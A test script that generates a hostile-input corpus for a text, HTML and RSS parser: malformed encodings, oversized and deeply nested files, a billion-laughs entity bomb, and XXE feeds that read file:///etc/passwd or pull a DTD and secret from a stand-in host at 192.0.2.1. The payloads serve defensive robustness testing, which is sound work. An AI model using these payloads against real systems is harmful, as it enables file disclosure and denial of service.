#!/bin/sh
# gen.sh DIR - writes the hostile-input corpus into DIR (the large cases are
# generated here, at test time, never stored in the repository).  Needs
# only sh, printf, awk, head, yes.  The small fixed cases live in
# tests/data/hostile/ and are copied too.  See README.md for the outcomes.
set -eu
out=$1
src=$(cd "$(dirname "$0")/../.." && pwd)
mkdir -p "$out"
cd "$out"

# --- bytes that are not text
: > empty.txt
printf '   \n\t\n  ' > blank.txt
printf '\211PNG\r\n\032\n\000\000\000\rIHDR\000\000\000\001\000\000\000\001\010\006\000\000\000\037\025\304\211' > image.png
cp image.png image-named.txt
printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000\003\000>\000\001\000\000\000' > program.elf
printf 'Iran met Russia.\000 hidden after a NUL\n' > nul-byte.txt
# --- encodings
printf 'Iran met Russia in \377\376 Moscow.\n' > invalid-utf8.txt
printf 'Iran met Russia in Moscow\300\257 on Tuesday.\n' > overlong-utf8.txt
printf 'Iran met Russia \355\240\200 in Moscow.\n' > surrogate-utf8.txt
# UTF-16LE with a byte order mark, and the same bytes without one
printf '\377\376' > utf16-bom.txt
printf 'Iran met Russia in Moscow on Tuesday.\n' | awk 'BEGIN { ORS = "" } { for (i = 1; i <= length($0); i++) printf "%s%c", substr($0, i, 1), 0; printf "\n%c", 0 }' >> utf16-bom.txt
tail -c +3 utf16-bom.txt > utf16-nobom.txt
# --- size
yes 'The foreign minister of Iran met his Russian counterpart in Moscow on Tuesday.' \
  | head -c 200000000 > big-200mb.txt
awk 'BEGIN { srand(1); split("Iran Russia met the minister said in Moscow on Tuesday talks with China and", w, " ");
             for (i = 0; i < 2200000; i++) printf "%s ", w[int(rand() * 15) + 1]; printf "\n" }' \
  | head -c 10485760 > long-line-10mb.txt
awk 'BEGIN { srand(2); split("Iran Russia met the minister said in Moscow on Tuesday talks with China and", w, " ");
             for (i = 0; i < 50000; i++) printf "%s ", w[int(rand() * 15) + 1]; printf "ends here.\n" }' > sentence-50k-words.txt
awk 'BEGIN { printf "The minister said "; for (i = 0; i < 10000; i++) printf "\""; printf " nothing more.\n" }' > quotes-10k.txt
awk 'BEGIN { for (i = 0; i < 10000; i++) printf "\342\200\234Iran met Russia,\342\200\235 he said. "; printf "\n" }' > quotes-10k-curly.txt
# one paragraph where every sentence repeats the same event, speaker and
# date: merging, mentions and dates were quadratic in it (30 s budget hit)
awk 'BEGIN { for (i = 0; i < 20000; i++) printf "It said after meeting them on Monday that Peru condemned Chile after meeting Bolivia. "; printf "\n" }' > events-20k.txt
# --- HTML
awk 'BEGIN { printf "<html><body><article>"; for (i = 0; i < 100000; i++) printf "<div>";
             printf "<p>Iran met Russia in Moscow.</p>"; for (i = 0; i < 100000; i++) printf "</div>";
             printf "</article></body></html>\n" }' > nested-100k.html
awk 'BEGIN { printf "<html><body><article><p>Iran met Russia in Moscow on Tuesday.</p>";
             for (i = 0; i < 100000; i++) printf "<b><i>"; printf "text\n" }' > unclosed-100k.html
printf '<html><body><article><p>Iran met Russia in Moscow on Tuesday.<p>France criticized Germany.<div><b><i>never closed\n' > unclosed-tags.html
printf '<html><body><article><p>Iran met Russia in Moscow on Tuesday.</p><!-- a comment that never ends <p>hidden text</p>\n' > unclosed-comment.html
cp "$src/tests/data/reader-billion.html" billion-laughs.html
cp "$src/tests/data/reader-xxe.html" xxe-file.html
# --- feeds (XML)
cat > billion-laughs.rss <<'XML'
<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY a "lol">
 <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
 <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
 <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
 <!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
 <!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
 <!ENTITY i "&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;">
]>
<rss version="2.0"><channel><item><title>Iran met Russia &i;</title><description>Iran met Russia in Moscow.</description></item></channel></rss>
XML
cat > xxe-file.rss <<'XML'
<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>
<rss version="2.0"><channel><item><title>Iran met Russia</title><description>Secret: &x; end.</description></item></channel></rss>
XML
cat > xxe-http.rss <<'XML'
<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://192.0.2.1/evil.dtd" [ <!ENTITY x SYSTEM "http://192.0.2.1/secret"> <!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd"> %p; ]>
<rss version="2.0"><channel><item><title>Iran met Russia</title><description>Remote: &x; end.</description></item></channel></rss>
XML
awk 'BEGIN { printf "<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel><title>Big</title>\n";
             for (i = 1; i <= 100000; i++) printf "<item><title>Item %d</title><link>https://example.org/%d</link><description>Iran met Russia.</description></item>\n", i, i;
             printf "</channel></rss>\n" }' > items-100k.rss
awk 'BEGIN { printf "<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel><title>Many</title>\n";
             for (i = 1; i <= 2000; i++) printf "<item><title>Item %d</title><link>https://example.org/%d</link><description>Iran met Russia in Moscow.</description></item>\n", i, i;
             printf "</channel></rss>\n" }' > items-2k.rss
printf '<?xml version="1.0"?><rss version="2.0"><channel><item><title>Iran met Russia</title></channel></rss>\n' > broken.rss
awk 'BEGIN { printf "<?xml version=\"1.0\"?><rss>"; for (i = 0; i < 100000; i++) printf "<x>"; printf "\n" }' > nested-100k.rss
# --- names in every script
cp "$src/tests/data/hostile/"* . 2>/dev/null || true
cp "$src/tests/data/regress/"* . 2>/dev/null || true
rm -f README
